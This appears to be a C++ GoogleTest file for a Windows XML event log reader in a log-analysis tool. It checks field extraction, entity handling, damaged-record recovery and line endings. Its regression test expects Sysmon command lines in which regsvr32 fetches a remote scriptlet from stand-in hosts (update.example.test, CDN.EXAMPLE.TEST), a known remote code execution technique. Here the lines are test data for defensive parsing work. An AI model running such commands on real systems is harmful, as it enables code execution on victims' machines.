@@ -1,0 +1,229 @@
+// XmlWinEventLog reader: raw values (entities kept), layouts, damage and resync.
+#include <gtest/gtest.h>
+
+#include <string>
+
+#include "io/readers.h"
+#include "io_test_util.h"
+
+namespace splinter::io::testing {
+namespace {
+
+const std::string kHead = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>";
+
+std::string event_xml(const std::string& id, const std::string& cmd,
+                      const std::string& time = "2024-05-14T09:15:02.4471234Z") {
+  return kHead + "<System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f}'/><EventID>" + id +
+         "</EventID><TimeCreated SystemTime='" + time +
+         "'/><EventRecordID>7</EventRecordID><Correlation/><Execution ProcessID='3160' ThreadID='4412'/>"
+         "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS01</Computer>"
+         "<Security UserID='S-1-5-18'/></System><EventData><Data Name='CommandLine'>" +
+         cmd + "</Data><Data Name='Empty'/><Data Name='Blank'></Data></EventData></Event>";
+}
+
+std::vector<StoredEvent> read_text(const std::string& text, CollectSink& s, FileStats* out = nullptr) {
+  TempDir d;
+  auto stats = read_inputs({d.file("x.xml", text)}, s);
+  if (out) *out = stats.at(0);
+  return s.events;
+}
+
+TEST(IoXml, SystemAndEventDataFields) {
+  CollectSink s;
+  auto ev = read_text(event_xml("1", "a.exe &quot;b&quot; &amp; c &gt; d") + "\n", s);
+  ASSERT_EQ(ev.size(), 1u);
+  const StoredEvent& e = ev[0];
+  EXPECT_EQ(e.at("EventID"), "1");
+  EXPECT_EQ(e.at("EventCode"), "1");
+  EXPECT_EQ(e.at("ProviderName"), "Microsoft-Windows-Sysmon");
+  EXPECT_EQ(e.at("ProviderGuid"), "{5770385f}");
+  EXPECT_EQ(e.at("SystemTime"), "2024-05-14T09:15:02.4471234Z");
+  EXPECT_EQ(e.at("EventRecordID"), "7");
+  EXPECT_EQ(e.at("ProcessID"), "3160");
+  EXPECT_EQ(e.at("ThreadID"), "4412");
+  EXPECT_EQ(e.at("UserID"), "S-1-5-18");
+  EXPECT_EQ(e.at("Channel"), "Microsoft-Windows-Sysmon/Operational");
+  EXPECT_EQ(e.at("Computer"), "WS01");
+  EXPECT_EQ(e.get("Correlation"), nullptr);
+  EXPECT_EQ(e.at("CommandLine"), "a.exe &quot;b&quot; &amp; c &gt; d");  // entities kept
+  EXPECT_EQ(e.at("Empty"), "");
+  EXPECT_EQ(e.at("Blank"), "");
+  EXPECT_EQ(e.time_us, utc_us(2024, 5, 14, 9, 15, 2) + 447123);
+  EXPECT_EQ(e.line, 1u);
+  EXPECT_EQ(e.offset, 0u);
+}
+
+TEST(IoXml, QualifiersUnnamedDataUserDataCdataAndDoubleQuotes) {
+  std::string x = kHead +
+                  "<System><Provider Name=\"Service Control Manager\"/><EventID Qualifiers=\"16384\">7045"
+                  "</EventID><TimeCreated SystemTime=\"2024-01-01 00:00:01\"/></System>"
+                  "<EventData><Data>first</Data><Data>second</Data><Data Name=\"X\"><![CDATA[a<b]]></Data>"
+                  "</EventData><UserData><LogFileCleared xmlns='x'><SubjectUserName>bob</SubjectUserName>"
+                  "<SubjectDomainName>CORP</SubjectDomainName><Empty/></LogFileCleared></UserData></Event>";
+  CollectSink s;
+  auto ev = read_text(x, s);
+  ASSERT_EQ(ev.size(), 1u);
+  EXPECT_EQ(ev[0].at("EventID"), "7045");
+  EXPECT_EQ(ev[0].at("ProviderName"), "Service Control Manager");
+  EXPECT_EQ(ev[0].count("Data"), 2u);
+  EXPECT_EQ(ev[0].at("Data"), "first");
+  EXPECT_EQ(ev[0].at("X"), "a<b");
+  EXPECT_EQ(ev[0].at("SubjectUserName"), "bob");
+  EXPECT_EQ(ev[0].at("SubjectDomainName"), "CORP");
+  EXPECT_EQ(ev[0].at("Empty"), "");
+  EXPECT_EQ(ev[0].time_us, utc_us(2024, 1, 1, 0, 0, 1));
+}
+
+TEST(IoXml, MultiLineConcatenatedAndWrapped) {
+  std::string pretty = kHead + "\n  <System>\n    <EventID>4688</EventID>\n  </System>\n"
+                       "  <EventData>\n    <Data Name='CommandLine'>x y</Data>\n  </EventData>\n</Event>\n";
+  std::string text = "<?xml version='1.0'?>\n<Events>\n" + event_xml("1", "one") + event_xml("2", "two") +
+                     "\n" + pretty + "</Events>\n";
+  CollectSink s;
+  FileStats st;
+  auto ev = read_text(text, s, &st);
+  ASSERT_EQ(ev.size(), 3u) << (s.problems.empty() ? "" : s.problems[0].what);
+  EXPECT_TRUE(s.problems.empty());
+  EXPECT_EQ(ev[0].at("CommandLine"), "one");
+  EXPECT_EQ(ev[1].at("CommandLine"), "two");
+  EXPECT_EQ(ev[0].line, 3u);
+  EXPECT_EQ(ev[1].line, 3u);
+  EXPECT_EQ(ev[1].offset, text.find(event_xml("2", "two")));
+  EXPECT_EQ(ev[2].at("EventID"), "4688");
+  EXPECT_EQ(ev[2].at("CommandLine"), "x y");
+  EXPECT_EQ(ev[2].line, 4u);
+  EXPECT_EQ(st.read, 3u);
+  EXPECT_EQ(st.parsed, 3u);
+}
+
+TEST(IoXml, TruncatedRecordReportedAndNextRead) {
+  std::string good1 = event_xml("1", "first"), good2 = event_xml("1", "after");
+  std::string cut = event_xml("1", "cut").substr(0, 150);
+  std::string text = good1 + "\n" + cut + "\n" + good2 + "\n";
+  CollectSink s;
+  FileStats st;
+  auto ev = read_text(text, s, &st);
+  ASSERT_EQ(ev.size(), 2u);
+  EXPECT_EQ(ev[1].at("CommandLine"), "after");
+  EXPECT_EQ(ev[1].line, 3u);
+  ASSERT_EQ(s.problems.size(), 1u);
+  EXPECT_EQ(s.problems[0].line, 2u);
+  EXPECT_EQ(s.problems[0].offset, good1.size() + 1);
+  EXPECT_NE(s.problems[0].what.find("truncated"), std::string::npos);
+  EXPECT_EQ(st.read, 3u);
+  EXPECT_EQ(st.rejected, 1u);
+}
+
+TEST(IoXml, TruncatedAtEndGarbageAndMissingEventId) {
+  std::string no_id = kHead + "<System><Computer>A</Computer></System></Event>";
+  std::string text = event_xml("1", "ok") + "\nthis is not xml\nnor this\n" + no_id + "\n" +
+                     event_xml("2", "ok2") + "\n<Event xmlns='x'><System><EventID>3</EventID>";
+  CollectSink s;
+  FileStats st;
+  auto ev = read_text(text, s, &st);
+  ASSERT_EQ(ev.size(), 2u);
+  EXPECT_EQ(ev[1].at("EventID"), "2");
+  ASSERT_EQ(s.problems.size(), 3u);
+  EXPECT_EQ(s.problems[0].line, 2u);
+  EXPECT_EQ(s.problems[0].what, "unexpected text between events");
+  EXPECT_EQ(s.problems[1].line, 4u);
+  EXPECT_EQ(s.problems[1].what, "record has no EventID");
+  EXPECT_EQ(s.problems[2].line, 6u);
+  EXPECT_EQ(st.read, 5u);
+  EXPECT_EQ(st.rejected, 3u);
+}
+
+TEST(IoXml, MismatchedTagsRejected) {
+  XmlEventParser p;
+  Event e;
+  std::string err;
+  EXPECT_FALSE(p.parse(kHead + "<System><EventID>1</EventIDX></System></Event>", e, err));
+  EXPECT_FALSE(p.parse(kHead + "<System><EventID a=b>1</EventID></System></Event>", e, err));
+  EXPECT_TRUE(p.parse(kHead + "<System><EventID>1</EventID></System></Event>", e, err)) << err;
+}
+
+TEST(IoXml, RecordTooLarge) {
+  std::string big = kHead + "<System><EventID>1</EventID></System><EventData><Data Name='X'>" +
+                    std::string(kMaxRecordBytes + 10, 'a') + "</Data></EventData></Event>\n";
+  CollectSink s;
+  FileStats st;
+  auto ev = read_text(big + event_xml("5", "small") + "\n", s, &st);
+  ASSERT_EQ(ev.size(), 1u);
+  EXPECT_EQ(ev[0].at("EventID"), "5");
+  ASSERT_GE(s.problems.size(), 1u);
+  EXPECT_EQ(s.problems[0].what, "record too large");
+}
+
+TEST(IoXml, ClassicWinEventLogRecordsInterleaved) {
+  std::string text = event_xml("1", "x") +
+                     "\n01/14/2021 11:41:39 PM\nLogName=Microsoft-Windows-PowerShell/Operational\n"
+                     "SourceName=Microsoft-Windows-PowerShell\nEventCode=4104\nComputerName=dc1\n"
+                     "Message=Creating Scriptblock text (1 of 1):\nline two <b>\n\n" +
+                     event_xml("2", "y") + "\n";
+  CollectSink s;
+  auto ev = read_text(text, s);
+  ASSERT_EQ(ev.size(), 3u);
+  EXPECT_TRUE(s.problems.empty());
+  EXPECT_EQ(ev[1].at("EventID"), "4104");
+  EXPECT_EQ(ev[1].at("Channel"), "Microsoft-Windows-PowerShell/Operational");
+  EXPECT_EQ(ev[1].at("Computer"), "dc1");
+  EXPECT_EQ(ev[1].at("Message"), "Creating Scriptblock text (1 of 1):\nline two <b>");
+  EXPECT_EQ(ev[1].time_us, utc_us(2021, 1, 14, 23, 41, 39));
+  EXPECT_EQ(ev[1].line, 2u);
+  EXPECT_EQ(ev[2].at("EventID"), "2");
+}
+
+TEST(IoXml, BomAndCrLf) {
+  std::string text = "\xEF\xBB\xBF" + event_xml("1", "a") + "\r\n" + event_xml("2", "b") + "\r\n";
+  CollectSink s;
+  auto ev = read_text(text, s);
+  ASSERT_EQ(ev.size(), 2u);
+  EXPECT_TRUE(s.problems.empty());
+  EXPECT_EQ(ev[1].line, 2u);
+}
+
+// Regression cases: values exactly as the rendered XML has them.
+TEST(IoXmlCases, C01C05C08EntitiesPreserved) {
+  std::string dir = shared_dir() + "/cases/";
+  if (slurp(dir + "C01.xml").empty()) GTEST_SKIP() << "shared cases absent";
+  CollectSink s;
+  auto stats = read_inputs({dir + "C01.xml", dir + "C05.xml", dir + "C08.xml"}, s);
+  ASSERT_EQ(stats.size(), 3u);
+  EXPECT_EQ(stats[0].parsed, 1u);
+  EXPECT_EQ(stats[1].parsed, 6u);
+  EXPECT_EQ(stats[2].parsed, 3u);
+  EXPECT_TRUE(s.problems.empty());
+  ASSERT_EQ(s.events.size(), 10u);
+  EXPECT_EQ(s.events[0].at("CommandLine"),
+            "regsvr32.exe /s /n /u /i:http://update.example.test/a.sct scrobj.dll");
+  EXPECT_EQ(s.events[0].at("Image"), "C:\\Windows\\System32\\regsvr32.exe");
+  EXPECT_EQ(s.events[0].time_us, utc_us(2024, 5, 14, 9, 15, 2) + 447123);
+  EXPECT_EQ(s.events[1].at("CommandLine"),
+            "&quot;C:\\WINDOWS\\SysWOW64\\REGSVR32.EXE&quot; /S /I:HTTP://CDN.EXAMPLE.TEST/A.SCT SCROBJ.DLL");
+  size_t with_entities = 0;
+  for (const auto& e : s.events)
+    for (const auto& f : e.fields) with_entities += f.value.find("&quot;") != std::string::npos;
+  EXPECT_GE(with_entities, 3u);
+  for (const auto& e : s.events) {
+    EXPECT_EQ(e.at("EventID"), "1");
+    EXPECT_NE(e.time_us, kNoTime);
+  }
+  EXPECT_EQ(s.events[0].at("Product"), "Microsoft\u00ae Windows\u00ae Operating System");  // UTF-8 kept
+  bool amp = false;
+  for (const auto& e : s.events)
+    amp |= e.at("ParentCommandLine") ==
+           "cmd.exe /c &quot;cd /d C:\\Program Files\\Notepad++ &amp;&amp; regsvr32 /s /i NppShell_06.dll&quot;";
+  EXPECT_TRUE(amp);
+}
+
+TEST(IoXmlCases, C03UnicodeKept) {
+  std::string p = shared_dir() + "/cases/C03.xml";
+  if (slurp(p).empty()) GTEST_SKIP();
+  CollectSink s;
+  auto st = read_inputs({p}, s);
+  ASSERT_EQ(s.events.size(), 3u);
+  EXPECT_NE(s.events[0].at("CommandLine").find("\xE2\x80"), std::string::npos);  // dash bytes
+}
+
+}  // namespace
+}  // namespace splinter::io::testing
